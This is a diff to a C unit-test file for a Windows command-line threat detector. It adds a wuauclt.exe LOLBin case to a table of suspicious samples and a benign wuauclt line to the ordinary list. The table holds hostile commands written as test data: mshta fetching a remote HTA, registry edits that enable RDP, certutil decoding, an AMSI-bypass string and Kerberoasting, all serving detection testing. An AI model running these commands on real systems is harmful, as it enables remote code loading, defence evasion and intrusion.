@@ -70,6 +70,7 @@ static const struct { const char *looks, *text; } said[] = {
     { "remote-task", "schtasks /create /s DB2 /tn x /tr y" }, { "script-proxy", "mshta http://203.0.113.1/a.hta" }, { "script-proxy", "jabber.exe /u /s /i:http://203.0.113.1/a .\\jabber.dll" },
     { "rdp-on", "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f" },
     { "lolbin", "rundll32.exe zipfldr.dll,RouteTheCall c:\\x.exe" }, { "lolbin", "wuauclt.exe /UpdateDeploymentProvider C:\\x.dll /RunHandlerComServer" },
+    { "lolbin", "wuauclt.exe /UpdateDeploymentProvider C:\\Temp\\UpdateDeploymentProvider.dll /ClassId x /RunHandlerComServer" },
     { "script-from-cache", "wscript.exe \"C:\\Users\\a\\AppData\\Local\\Microsoft\\Windows\\INetCache\\x.vbs\"" }, { "decoded-file", "certutil -decode a.txt a.exe" },
     { "shell-copy", "copy /y c:\\windows\\system32\\cmd.exe c:\\windows\\temp\\cm.exe" }, { "downgrade", "powershell -version 2 -c x" }, { "attack-tool", "Invoke-Kerberoast" },
     { "amsi-off", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')" }, { "obfuscated", "(\"{2}{0}{1}\"-f 'a','b','c')" }, { "obfuscated", "N`ew-O`bj`ect N`et.W`ebCl`ient" },
@@ -104,6 +105,7 @@ static void ordinary_command_lines_say_nothing(void **state)
     static const char *const ordinary[] = {
         "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=zh-CN", "cmd /c \"D:\\备份\\每日.bat\"",
         "powershell.exe -File D:\\scripts\\report.ps1", "net use Z: \\\\FILE1\\资料", "net user", "net localgroup administrators", "net share", "schtasks /query /fo csv", "sc query MSSQLSERVER", "reg query HKLM\\Software",
+        "\"C:\\Windows\\system32\\wuauclt.exe\" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 5f0ae1c2-98a1-4c10-9ed5-2b3b1a3c1c00 /RunHandlerComServer",
         "netsh interface ip show config", "netsh advfirewall show allprofiles", "wevtutil qe Security /c:1", "wmic os get caption", "ping 127.0.0.1 -n 5", "robocopy D:\\数据 E:\\备份 /MIR", "vssadmin list shadows",
         "rundll32.exe shell32.dll,Control_RunDLL C:\\Windows\\System32\\timedate.cpl", "msiexec /i \"C:\\下载\\office.msi\" /qn", "certutil -hashfile a.exe SHA256", "sqlcmd -S . -Q \"select 1\"", "ssh admin@10.0.0.5",
         "copy a.txt \\\\FILE1\\share\\", "auditpol /get /category:*", "bcdedit /enum", "tscon 1", "at", "format d: /q", "explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding",
